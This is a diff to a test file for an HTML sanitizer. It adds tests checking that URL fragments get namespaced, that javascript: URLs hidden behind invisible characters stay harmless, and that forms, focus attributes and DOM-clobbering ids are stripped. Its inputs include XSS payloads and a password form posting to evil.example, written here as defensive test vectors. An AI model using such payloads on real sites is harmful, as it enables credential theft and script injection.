@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { htmlToText, resolveHtmlUrls, sanitizeHtml } from './index.js';
+import { htmlToText, sanitizeHtml } from './index.js';
 import { findHazards } from './testdata/find-hazards.js';
 import { XSS_VECTORS } from './testdata/xss-vectors.js';
 
@@ -132,7 +132,13 @@ describe('sanitizeHtml: URL resolution', () => {
   it.each([
     ['href', '<a href="../other/">x</a>', '<a href="http://example.com/blog/other/">x</a>'],
     ['root-relative src', '<img src="/i.png">', '<img src="http://example.com/i.png">'],
-    ['fragment', '<a href="#c">x</a>', '<a href="http://example.com/blog/post/#c">x</a>'],
+    ['same-document fragment', '<a href="#c">x</a>', '<a href="#user-content-c">x</a>'],
+    ['empty fragment', '<a href="#">top</a>', '<a href="#">top</a>'],
+    [
+      'fragment of another page',
+      '<a href="p#c">x</a>',
+      '<a href="http://example.com/blog/post/p#c">x</a>',
+    ],
     [
       'protocol-relative',
       '<img src="//cdn.example/i.png">',
@@ -159,12 +165,7 @@ describe('sanitizeHtml: URL resolution', () => {
       '<table background="bg.png"></table>',
       '<table background="http://example.com/blog/post/bg.png"></table>',
     ],
-    [
-      'action',
-      '<form action="go"></form>',
-      '<form action="http://example.com/blog/post/go"></form>',
-    ],
-    ['usemap', '<img usemap="#m">', '<img usemap="http://example.com/blog/post/#m">'],
+    ['usemap', '<img usemap="#m">', '<img usemap="#user-content-m">'],
     [
       'svg xlink:href',
       '<svg><a xlink:href="x"><text>t</text></a></svg>',
@@ -202,6 +203,21 @@ describe('sanitizeHtml: URL resolution', () => {
   it('keeps relative URLs relative without a base', () => {
     expect(sanitizeHtml('<a href="../x">x</a>')).toBe('<a href="../x">x</a>');
   });
+
+  // A browser does not strip U+00A0 or U+FEFF from a URL, so `&nbsp;javascript:` is a relative
+  // URL to it; String.prototype.trim() strips them and made it a javascript: URL again when
+  // there was no base to resolve against.
+  it.each([
+    ['no-break space', '<a href="&nbsp;javascript:alert(1)">x</a>'],
+    ['byte order mark', '<a href="&#xfeff;javascript:alert(1)">x</a>'],
+    ['ideographic space', '<a href="&#x3000;javascript:alert(1)">x</a>'],
+  ])('a URL behind a %s stays relative, with or without a base', (_name, html) => {
+    for (const options of [{}, { baseUrl: BASE }]) {
+      const out = sanitizeHtml(html, options);
+      expect(findHazards(out)).toEqual([]);
+      expect(out).not.toMatch(/href="javascript/);
+    }
+  });
 });
 
 describe('sanitizeHtml: robustness', () => {
@@ -219,44 +235,6 @@ describe('sanitizeHtml: robustness', () => {
 
   it('returns the empty string for empty input', () => {
     expect(sanitizeHtml('')).toBe('');
-  });
-});
-
-describe('resolveHtmlUrls', () => {
-  it('resolves without sanitizing', () => {
-    const out = resolveHtmlUrls(
-      '<a href="x" onclick="f()">x</a><script src="s.js"></script>',
-      BASE,
-    );
-    expect(out).toBe(
-      '<a href="http://example.com/blog/post/x" onclick="f()">x</a><script src="http://example.com/blog/post/s.js"></script>',
-    );
-  });
-
-  it.each([
-    [
-      'srcset',
-      '<img srcset="a.png 1x, b.png 2x">',
-      '<img srcset="http://example.com/blog/post/a.png 1x, http://example.com/blog/post/b.png 2x">',
-    ],
-    [
-      'poster',
-      '<video poster="p.jpg"></video>',
-      '<video poster="http://example.com/blog/post/p.jpg"></video>',
-    ],
-    [
-      'absolute untouched',
-      '<a href="javascript:void(0)">x</a>',
-      '<a href="javascript:void(0)">x</a>',
-    ],
-    [
-      'base element',
-      '<base href="http://o.example/"><img src="i.png">',
-      '<base href="http://o.example/"><img src="http://o.example/i.png">',
-    ],
-    ['plain text', 'no markup & co', 'no markup & co'],
-  ])('%s', (_name, input, expected) => {
-    expect(resolveHtmlUrls(input, BASE)).toBe(expected);
   });
 });
 
@@ -298,9 +276,6 @@ describe('IRIs', () => {
     expect(sanitizeHtml('<a href="&#192;/é%20x">x</a>', { baseUrl: BASE })).toBe(
       '<a href="http://example.com/blog/post/À/é%20x">x</a>',
     );
-    expect(resolveHtmlUrls('<a href="&#192;">uri</a>', 'http://any.test/')).toBe(
-      '<a href="http://any.test/À">uri</a>',
-    );
   });
 });
 
@@ -318,14 +293,92 @@ describe('unwrapped scope boundaries', () => {
   it.each([
     ['<p><object><h1>x</h1></object></p>', '<p></p><h1>x</h1><p></p>'],
     ['<ul><li>a<object><li>b</object></ul>', '<ul><li>a</li><li>b</li></ul>'],
-    [
-      '<button><marquee><button>x</button></marquee></button>',
-      '<button></button><button>x</button>',
-    ],
+    ['<p><marquee><h1>x</h1></marquee></p>', '<p></p><h1>x</h1><p></p>'],
     ['<table><td><object><td>z', '<table><tbody><tr><td></td><td>z</td></tr></tbody></table>'],
   ])('%s is sanitized as the browser will read the output', (html, expected) => {
     const once = sanitizeHtml(html);
     expect(once).toBe(expected);
     expect(sanitizeHtml(once)).toBe(once);
+  });
+});
+
+describe('hostile markup policy (issue 13): forms, focus, DOM clobbering', () => {
+  it.each([
+    [
+      'a password form: text kept, form gone',
+      '<form action="https://evil.example/steal" method="post"><label for="p">Password</label> <input type="password" name="p" id="p"><button type="submit">Log in</button></form>',
+      'Password Log in',
+    ],
+    [
+      'select, options, textarea, fieldset, legend, datalist, output, keygen',
+      '<fieldset><legend>L</legend><select name="s"><optgroup label="g"><option>o1</option><option>o2</option></optgroup></select><textarea name="t"><b>t</b></textarea><datalist id="d"><option value="v"></datalist><output name="o">42</output><keygen name="k"></fieldset>',
+      'Lo1o2&lt;b&gt;t&lt;/b&gt;42',
+    ],
+    [
+      'button in a paragraph',
+      '<p>a <button formaction="javascript:x">b</button> c</p>',
+      '<p>a b c</p>',
+    ],
+    ['input alone', 'x<input type="hidden" name="csrf" value="v">y', 'xy'],
+    [
+      'focus, editing and shortcut attributes dropped',
+      '<p autofocus contenteditable="true" tabindex="1" accesskey="s" title="t">x</p>',
+      '<p title="t">x</p>',
+    ],
+    ['id namespaced', '<h2 id="search">x</h2>', '<h2 id="user-content-search">x</h2>'],
+    [
+      'name namespaced',
+      '<img name="cookie" src="http://a.example/i.png"><a name="body">x</a>',
+      '<img name="user-content-cookie" src="http://a.example/i.png"><a name="user-content-body">x</a>',
+    ],
+    [
+      'footnotes keep working',
+      '<p>x<sup id="fnref1"><a href="#fn1">1</a></sup></p><ol><li id="fn1">n <a href="#fnref1">↩</a></li></ol>',
+      '<p>x<sup id="user-content-fnref1"><a href="#user-content-fn1">1</a></sup></p><ol><li id="user-content-fn1">n <a href="#user-content-fnref1">↩</a></li></ol>',
+    ],
+    [
+      'image map',
+      '<img usemap="#m"><map name="m"><area href="/a" shape="rect"></map>',
+      '<img usemap="#user-content-m"><map name="user-content-m"><area href="http://example.com/a" shape="rect"></map>',
+    ],
+    [
+      'table headers',
+      '<table><tr><th id="h1">a</th><th id="h2">b</th></tr><tr><td headers="h1  h2">c</td></tr></table>',
+      '<table><tbody><tr><th id="user-content-h1">a</th><th id="user-content-h2">b</th></tr><tr><td headers="user-content-h1  user-content-h2">c</td></tr></tbody></table>',
+    ],
+    [
+      'SVG gradient and use references',
+      '<svg><defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><rect fill="url(#g)" stroke="url(\'#g\')"/><use xlink:href="#g"/></svg>',
+      '<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="user-content-g"><stop offset="0"></stop></linearGradient></defs><rect fill="url(#user-content-g)" stroke="url(\'#user-content-g\')"></rect><use xlink:href="#user-content-g" xmlns:xlink="http://www.w3.org/1999/xlink"></use></svg>',
+    ],
+    [
+      'MathML id',
+      '<math id="m"><mi>x</mi></math>',
+      '<math id="user-content-m" xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math>',
+    ],
+    [
+      'empty id and name name nothing and stay',
+      '<span id="" name="">x</span>',
+      '<span id="" name="">x</span>',
+    ],
+    [
+      'already namespaced values are kept (sanitizing is idempotent)',
+      '<a id="user-content-x" href="#user-content-x">x</a>',
+      '<a id="user-content-x" href="#user-content-x">x</a>',
+    ],
+  ])('%s', (_name, input, expected) => {
+    const out = sanitizeHtml(input, { baseUrl: BASE });
+    expect(out).toBe(expected);
+    expect(findHazards(out)).toEqual([]);
+    expect(sanitizeHtml(out, { baseUrl: BASE })).toBe(out);
+  });
+
+  it('the hazard finder flags what the policy removes (the check can fail)', () => {
+    expect(findHazards('<form><input type="password"></form>')).toEqual(
+      expect.arrayContaining(['<form> element', '<input> element']),
+    );
+    expect(findHazards('<p tabindex="1" id="body">x</p>')).toEqual(
+      expect.arrayContaining(['tabindex on <p>', 'id="body" on <p> outside user-content-']),
+    );
   });
 });
